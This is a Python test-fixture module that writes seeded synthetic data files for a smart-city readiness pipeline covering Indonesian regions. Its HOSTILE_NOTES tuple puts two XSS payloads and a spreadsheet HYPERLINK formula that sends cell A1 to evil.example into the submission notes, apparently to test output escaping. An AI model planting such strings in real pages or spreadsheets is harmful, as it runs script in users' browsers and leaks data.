"""Synthetic processed folders for tests and benchmarks.

:func:`write_synthetic_processed` writes every file of ``docs/contracts.md`` that the reports and the round
summary read, for the first ``n_regions`` kabupaten/kota of the reference table, with values drawn from a
seeded generator: the same arguments give the same bytes. Nothing here is used by the pipeline itself.
"""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pandas as pd

from smartcity_analysis.reference import load_regions

# The indicators of the synthetic round and the aspect each belongs to (only for fabricating data: the
# pipeline reads its indicators from the framework file).
SYNTHETIC_INDICATORS: dict[str, str] = {
    "hdi": "aspect_struktur",
    "pad_share_pct": "aspect_struktur",
    "ict_budget_share_pct": "aspect_struktur",
    "apbd_per_capita_idr": "aspect_struktur",
    "fiscal_capacity_level": "aspect_struktur",
    "ict_staff_per_1000_asn": "aspect_struktur",
    "leadership_score": "aspect_struktur",
    "governance_score": "aspect_struktur",
    "households_internet_pct": "aspect_infrastruktur",
    "opd_connected_pct": "aspect_infrastruktur",
    "has_data_center": "aspect_infrastruktur",
    "has_command_center": "aspect_infrastruktur",
    "apps_per_100k": "aspect_infrastruktur",
    "infrastructure_score": "aspect_infrastruktur",
    "smart_city_regulation_level": "aspect_suprastruktur",
    "has_smart_city_council": "aspect_suprastruktur",
    "has_spbe_architecture": "aspect_suprastruktur",
    "spbe_index": "aspect_suprastruktur",
    "regulation_score": "aspect_suprastruktur",
}
SYNTHETIC_DIMENSIONS = ("governance", "branding", "economy", "living", "society", "environment")
SYNTHETIC_PROFILES = (
    (1, "Siap melaju", "Ready to advance"),
    (2, "Berkembang", "Developing"),
    (3, "Perlu penguatan dasar", "Needs the basics"),
)
HOSTILE_NOTES = (
    '<script>alert("x")</script> Mohon dicek ulang',
    '<img src=x onerror="alert(1)"> lampiran menyusul',
    '=HYPERLINK("http://evil.example/?q="&A1, "klik")',
)


def write_synthetic_processed(folder: str | Path, n_regions: int = 6, seed: int = 2021) -> list[str]:
    """Write a synthetic processed folder with the contract files of stages 01-04.

    Parameters
    ----------
    folder : str or Path
        Where to write; created if missing.
    n_regions : int, default 6
        How many regions took part (the first ``n_regions`` of the reference table, at most 514).
    seed : int, default 2021
        Seed of the generator; the same arguments give byte-identical files.

    Returns
    -------
    list of str
        The region codes written, sorted.
    """
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(seed)
    regions = _pick_regions(n_regions)
    codes = regions["region_code"].tolist()
    submissions = _submissions(regions, rng)
    scores = _scores(codes, rng)
    profiles, centroids = _profiles(scores)
    ranking = _ranking(regions, scores, rng)
    tables = {
        "submissions_clean.csv": submissions,
        "indicators.csv": _indicators(codes, rng),
        "scores.csv": scores,
        "index_unit_stats.csv": _unit_stats(codes),
        "index_imputed.csv": _imputed(codes),
        "index_treated.csv": _treated(codes),
        "profiles.csv": profiles,
        "profile_centroids.csv": centroids,
        "ranking.csv": ranking,
        "cleaning_log.csv": _cleaning_log(codes),
        "quarantine.csv": pd.DataFrame(columns=["source_file", "source_row", "region_code", "reason_code",
                                                "detail"]),
        "superseded.csv": pd.DataFrame(columns=["source_file", "source_row", "region_code",
                                                "superseded_by_file", "superseded_by_row"]),
    }
    for name, table in tables.items():
        table.to_csv(folder / name, index=False, encoding="utf-8", lineterminator="\n")
    _write_json(folder / "cleaning_summary.json", {
        "rows_read": n_regions, "rows_accepted": n_regions, "rows_superseded": 0, "rows_quarantined": 0,
        "files_read": 1, "files_rejected": 0})
    _write_json(folder / "panel_effect.json", _panel_effect())
    return codes


def _pick_regions(n_regions: int) -> pd.DataFrame:
    regions = load_regions()
    if not 1 <= n_regions <= len(regions):
        raise ValueError(f"n_regions must be between 1 and {len(regions)}, got {n_regions}")
    # Spread the picks over the whole archipelago rather than taking the first province only.
    positions = np.linspace(0, len(regions) - 1, n_regions).round().astype(int)
    return regions.iloc[positions].reset_index(drop=True)


def _submissions(regions: pd.DataFrame, rng: np.random.Generator) -> pd.DataFrame:
    n = len(regions)
    notes = [HOSTILE_NOTES[i % len(HOSTILE_NOTES)] if i < 3 else "" for i in range(n)]
    frame = pd.DataFrame({
        "region_code": regions["region_code"],
        "official_name": regions["official_name"],
        "region_type": regions["region_type"],
        "province_name": regions["province_name"],
        "assessment_year": 2021,
        "assessment_class": [f"Kelas {chr(65 + i % 4)}" for i in range(n)],
        "submitted_at": [f"2021-11-{1 + i % 4:02d}T09:00:00" for i in range(n)],
        "source_file": [f"{code}_kuesioner.xlsx" for code in regions["region_code"]],
        "source_row": 2,
        "submission_id": [f"SC21-{i:04d}" for i in range(n)],
        "population": regions["population"],
        "area_km2": regions["area_km2"],
        "hdi": rng.uniform(55, 85, n).round(2),
        "apbd_total_idr": (rng.uniform(0.8, 6, n) * 1e12).round(-6),
        "pad_idr": (rng.uniform(0.05, 0.6, n) * 1e12).round(-6),
        "ict_budget_idr": (rng.uniform(5, 80, n) * 1e9).round(-6),
        "fiscal_capacity": rng.choice(["sangat rendah", "rendah", "sedang", "tinggi", "sangat tinggi"], n),
        "civil_servants": rng.integers(2000, 15000, n),
        "ict_civil_servants": rng.integers(10, 300, n),
        "leadership_score": rng.integers(1, 6, n),
        "governance_score": rng.integers(1, 6, n),
        "households_internet_pct": rng.uniform(30, 95, n).round(1),
        "opd_connected_pct": rng.uniform(20, 100, n).round(1),
        "has_data_center": rng.choice([True, False], n),
        "has_command_center": rng.choice([True, False], n),
        "public_service_apps": rng.integers(0, 200, n),
        "infrastructure_score": rng.integers(1, 6, n),
        "smart_city_regulation": rng.choice(["tidak ada", "draf", "ditetapkan"], n),
        "has_smart_city_council": rng.choice([True, False], n),
        "has_spbe_architecture": rng.choice([True, False], n),
        "spbe_index": rng.uniform(1, 4.5, n).round(2),
        "regulation_score": rng.integers(1, 6, n),
        **{f"dim_{d}": rng.integers(1, 6, n) for d in SYNTHETIC_DIMENSIONS},
        "notes": notes,
    })
    frame.loc[1 % n, "hdi"] = np.nan  # one missing field to report
    return frame


def _indicators(codes: list[str], rng: np.random.Generator) -> pd.DataFrame:
    n = len(codes)
    values = {code: rng.uniform(0, 100, n).round(3) for code in SYNTHETIC_INDICATORS}
    values.update({f"dim_{d}": rng.integers(1, 6, n) for d in SYNTHETIC_DIMENSIONS})
    return pd.DataFrame({"region_code": codes, **values})


def _scores(codes: list[str], rng: np.random.Generator) -> pd.DataFrame:
    n = len(codes)
    level = rng.uniform(20, 80, n)
    columns = {code: np.clip(level + rng.normal(0, 15, n), 0, 100)
               for code in [*SYNTHETIC_INDICATORS, *(f"dim_{d}" for d in SYNTHETIC_DIMENSIONS)]}
    scores = pd.DataFrame({"region_code": codes, **columns})
    for aspect in sorted(set(SYNTHETIC_INDICATORS.values())):
        members = [c for c, a in SYNTHETIC_INDICATORS.items() if a == aspect]
        scores[aspect] = scores[members].mean(axis=1)
    for dimension in SYNTHETIC_DIMENSIONS:
        scores[f"dimension_{dimension}"] = scores[f"dim_{dimension}"]
    aspects = sorted(set(SYNTHETIC_INDICATORS.values()))
    scores["readiness_index"] = scores[aspects].mean(axis=1)
    scores["readiness_rank"] = scores["readiness_index"].rank(ascending=False, method="min").astype(int)
    return scores


def _profiles(scores: pd.DataFrame) -> tuple[pd.DataFrame, pd.DataFrame]:
    tercile = pd.qcut(scores["readiness_index"].rank(method="first"), min(3, len(scores)), labels=False)
    profile_id = (len(SYNTHETIC_PROFILES) - tercile.astype(int)).clip(1, 3)
    names = {pid: (nid, nen) for pid, nid, nen in SYNTHETIC_PROFILES}
    score_columns = [c for c in scores.columns if c.startswith(("aspect_", "dimension_"))]
    profiles = pd.DataFrame({
        "region_code": scores["region_code"],
        "profile_id": profile_id,
        "profile_name_id": [names[p][0] for p in profile_id],
        "profile_name_en": [names[p][1] for p in profile_id],
    })
    means = scores[score_columns].groupby(profile_id).mean()
    centroid_of = means.loc[profile_id].to_numpy()
    profiles["distance_to_centroid"] = np.sqrt(((scores[score_columns].to_numpy() - centroid_of) ** 2).sum(1))
    centroids = pd.DataFrame({
        "profile_id": means.index,
        "profile_name_id": [names[p][0] for p in means.index],
        "profile_name_en": [names[p][1] for p in means.index],
        "n_regions": profile_id.value_counts().reindex(means.index).to_numpy(),
    })
    centroids = pd.concat([centroids, means.reset_index(drop=True)], axis=1)
    return profiles, centroids


def _ranking(regions: pd.DataFrame, scores: pd.DataFrame, rng: np.random.Generator) -> pd.DataFrame:
    n = len(scores)
    rank = scores["readiness_rank"].to_numpy()
    quota = max(1, n // 2)
    spread = rng.integers(0, max(2, n // 5), n)
    p_selected = np.clip(1.0 - (rank - 0.5) / (quota * 2), 0, 1).round(3)
    return pd.DataFrame({
        "region_code": scores["region_code"],
        "official_name": regions["official_name"],
        "readiness_index": scores["readiness_index"],
        "rank": rank,
        "selected": rank <= quota,
        "rank_median": rank,
        "rank_p05": np.maximum(1, rank - spread),
        "rank_p95": np.minimum(n, rank + spread),
        "p_selected": p_selected,
        "borderline": (p_selected > 0.1) & (p_selected < 0.9),
        "eligible": True,
        "decision_reason": np.where(rank <= quota, "within_quota", "below_quota"),
    }).sort_values("rank", kind="stable")


def _unit_stats(codes: list[str]) -> pd.DataFrame:
    n_imputed = [1 if i == 1 else 0 for i in range(len(codes))]
    coverage = [1 - k / len(SYNTHETIC_INDICATORS) for k in n_imputed]
    return pd.DataFrame({"region_code": codes, "indicator_coverage": coverage, "n_imputed": n_imputed})


def _imputed(codes: list[str]) -> pd.DataFrame:
    return pd.DataFrame({"region_code": codes[1:2], "indicator": ["hdi"], "imputed_value": [70.12],
                         "method": ["median_of_province"]})


def _treated(codes: list[str]) -> pd.DataFrame:
    return pd.DataFrame({"indicator": ["apps_per_100k"], "region_code": codes[:1], "original_value": [812.5],
                         "treated_value": [95.0], "treatment": ["winsorised"]})


def _cleaning_log(codes: list[str]) -> pd.DataFrame:
    rows = [(f"{codes[0]}_kuesioner.xlsx", 2, codes[0], "apbd_total_idr", "Rp 1,5 T", "1500000000000.0",
             "money_shorthand"),
            (f"{codes[0]}_kuesioner.xlsx", 2, codes[0], "hdi", "72,45", "72.45", "decimal_comma")]
    return pd.DataFrame(rows, columns=["source_file", "source_row", "region_code", "field", "original_value",
                                       "cleaned_value", "rule"])


def _panel_effect() -> dict:
    return {
        "test": "kruskal",
        "p_value": 0.2134,
        "summary_id": "Tidak ada bukti perbedaan penilaian antar kelas (uji Kruskal-Wallis, p = 0,21).",
        "summary_en": "No evidence that the classes were scored differently (Kruskal-Wallis test, p = 0.21).",
        "df_den": 3,
        "effects": [
            {"assessment_class": "Kelas A", "effect": 0.125, "ci_low": -0.05, "ci_high": 0.3, "n_regions": 3},
            {"assessment_class": "Kelas B", "effect": -0.125, "ci_low": -0.3, "ci_high": 0.05, "n_regions": 3},
        ],
    }


def _write_json(path: Path, payload: dict) -> None:
    path.write_text(json.dumps(payload, indent=2, sort_keys=True, ensure_ascii=False) + "\n", encoding="utf-8")
